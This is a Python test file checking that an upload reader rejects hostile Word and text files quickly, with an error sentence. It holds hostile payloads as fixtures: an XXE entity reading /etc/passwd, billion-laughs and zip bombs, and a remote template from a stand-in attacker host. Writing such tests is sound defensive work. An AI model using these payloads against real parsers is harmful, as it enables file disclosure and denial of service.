"""Files that are not what they say, or are made to hurt: refused with a sentence, and quickly."""

import io
import struct
import time
import zipfile

import pytest

from documents.reading import read_upload
from officehub.kernel.errors import Invalid
from tests.support.uploads import TYPES, W, paragraph, raw_word_file, word_file

GOOD = paragraph("正文。")
XXE = '<!DOCTYPE w:document [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
LAUGHS = '<!DOCTYPE w [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]>'
TEMPLATE = (
    b'<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    b'attachedTemplate" Target="http://attacker.example/t.dotm" TargetMode="External"/></Relationships>'
)
MACRO_TYPES = TYPES.replace("document.main+xml", "document.macroEnabled.main+xml")


def bomb() -> bytes:
    return raw_word_file(GOOD, extra={"word/media/a.bin": b"\0" * 300_000_000})


def wide_xml_bomb() -> bytes:
    return raw_word_file("<w:p><w:r><w:t>" + "a" * 60_000_000 + "</w:t></w:r></w:p>")


def empty_paragraphs() -> bytes:
    return raw_word_file("<w:p/>" * 2_000_000)


def padded_empty_paragraphs() -> bytes:
    """Below every ratio, so that only the child's own limits are left."""
    noise = bytes(range(256)) * 4000
    return raw_word_file("<w:p/>" * 2_000_000, extra={f"word/media/{n}.bin": _scrambled(noise, n) for n in range(3)})


def _scrambled(data: bytes, seed: int) -> bytes:
    state, out = seed + 1, bytearray()
    for value in data[:200_000]:
        state = (state * 1103515245 + 12345) & 0x7FFFFFFF
        out.append(value ^ (state >> 16 & 255))
    return bytes(out)


def deep() -> bytes:
    return raw_word_file("<w:sdt>" * 40_000 + GOOD + "</w:sdt>" * 40_000)


def lying_size() -> bytes:
    """The directory claims one byte; more comes out."""
    data = bytearray(raw_word_file("<w:p/>" * 1000))
    at = data.rindex(b"PK\x01\x02")
    data[at + 24 : at + 28] = struct.pack("<I", 1)
    return bytes(data)


def utf16_document() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", TYPES)
        xml = f'<?xml version="1.0" encoding="UTF-16"?>{XXE}<w:document {W}><w:body>{GOOD}</w:body></w:document>'
        archive.writestr("word/document.xml", xml.encode("utf-16"))
    return buffer.getvalue()


def plain_zip() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("readme.md", "x")
    return buffer.getvalue()


HOSTILE = {
    "zip bomb": ("a.docx", bomb, "解压后过大"),
    "xml bomb": ("a.docx", wide_xml_bomb, "解压后过大"),
    "two million empty paragraphs": ("a.docx", empty_paragraphs, "过"),
    "two million empty paragraphs among pictures": ("a.docx", padded_empty_paragraphs, "段落过多"),
    "external entity": (
        "a.docx",
        lambda: raw_word_file("<w:p><w:r><w:t>&x;</w:t></w:r></w:p>", prolog=XXE),
        "外部实体",
    ),
    "billion laughs": ("a.docx", lambda: raw_word_file(GOOD, prolog=LAUGHS), "外部实体"),
    "entity in another part": (
        "a.docx",
        lambda: raw_word_file(GOOD, extra={"word/styles.xml": XXE.encode()}),
        "外部实体",
    ),
    "utf-16 document": ("a.docx", utf16_document, "不是有效的 Word"),
    "macro part": ("a.docx", lambda: raw_word_file(GOOD, extra={"word/vbaProject.bin": b"x"}), "宏"),
    "macro type": ("a.docx", lambda: raw_word_file(GOOD, types=MACRO_TYPES), "宏"),
    "macro name": ("a.docm", lambda: word_file("正文。"), "宏"),
    "remote template": (
        "a.docx",
        lambda: raw_word_file(GOOD, extra={"word/_rels/settings.xml.rels": TEMPLATE}),
        "外部模板",
    ),
    "nested 40,000 deep": ("a.docx", deep, "。"),
    "size that lies": ("a.docx", lying_size, "不是有效的 Word"),
    "many members": ("a.docx", lambda: raw_word_file(GOOD, extra={f"x/{n}": b"" for n in range(3000)}), "解压后过大"),
    "not xml": ("a.docx", lambda: raw_word_file("<w:p>"), "无法读取"),
    "zip that is no document": ("a.docx", plain_zip, "不是有效的 Word"),
    "cut short": ("a.docx", lambda: word_file("正文。")[:-200], "不是有效的 Word"),
    "renamed program": ("a.docx", lambda: b"MZ\x90\0" + b"\0" * 100, "扩展名不符"),
    "renamed old document": ("a.docx", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "另存为 .docx"),
    "document renamed to text": ("a.txt", lambda: word_file("正文。"), "扩展名不符"),
    "picture renamed to text": ("a.txt", lambda: b"\x89PNG\r\n\x1a\n", "扩展名不符"),
    "binary text": ("a.txt", lambda: b"\x00\x01\x02\xff" * 100, "不是纯文本"),
    "long text": ("a.txt", lambda: "水".encode() * 800_000, "过长"),
    "other kind": ("a.exe", lambda: b"MZ", "只能读取"),
    "no name": ("", lambda: b"x", "只能读取"),
    "too large": ("a.docx", lambda: b"PK\x03\x04" + b"\0" * (21 * 1024 * 1024), "20兆字节"),
}


@pytest.mark.parametrize("case", HOSTILE)
def test_hostile_files_are_refused_quickly_with_a_sentence(case: str) -> None:
    name, make, words = HOSTILE[case]
    data = make()
    began = time.perf_counter()
    with pytest.raises(Invalid, match=words) as refusal:
        read_upload(name, data)
    assert refusal.value.message.endswith("。")
    assert time.perf_counter() - began < 10


def test_hyperlinks_and_pictures_do_no_harm() -> None:
    link = (
        b'<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        b'hyperlink" Target="http://www.example.org" TargetMode="External"/></Relationships>'
    )
    data = raw_word_file(
        GOOD, extra={"word/_rels/document.xml.rels": link, "word/media/a.png": b"\x89PNG" + b"\0" * 90}
    )
    assert read_upload("a.docx", data).body[0].text == "正文。"
